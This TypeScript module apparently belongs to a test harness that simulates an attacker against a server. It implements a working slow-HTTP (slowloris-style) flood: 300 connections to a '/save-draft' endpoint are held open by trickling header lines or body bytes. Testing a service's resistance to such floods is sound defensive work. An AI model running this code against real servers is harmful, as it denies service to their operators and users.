/** Connections that send a header, or a byte of a body, now and then. */
import { setTimeout as wait } from "node:timers/promises";
import { head, openLine } from "../raw.ts";
import type { FloodArgs, Flooded } from "../resources/attacker-process.ts";

const lines = 300;

export async function slowFlood({ url, cookie, seconds }: FloodArgs): Promise<Flooded> {
  const { host } = new URL(url);
  const until = Date.now() + seconds * 1000;
  const open = Array.from({ length: lines }, (_, at) => {
    const line = openLine(url, `127.66.2.${(at % 200) + 1}`);
    const all = { host, origin: url, cookie, "content-type": "application/json", "content-length": 100_000 };
    const whole = head("POST", "/save-draft", all);
    line.write(at % 2 ? `${whole}{` : whole.slice(0, -2));
    return { line, piece: at % 2 ? " " : "x-slow: 1\r\n" };
  });
  while (Date.now() < until) {
    await wait(500);
    for (const { line, piece } of open) if (!line.socket.destroyed) line.write(piece);
  }
  for (const { line } of open) line.socket.destroy();
  return {
    tried: lines,
    summary: `${lines} connections, half in their headers, half in their bodies`,
    through: [],
  };
}
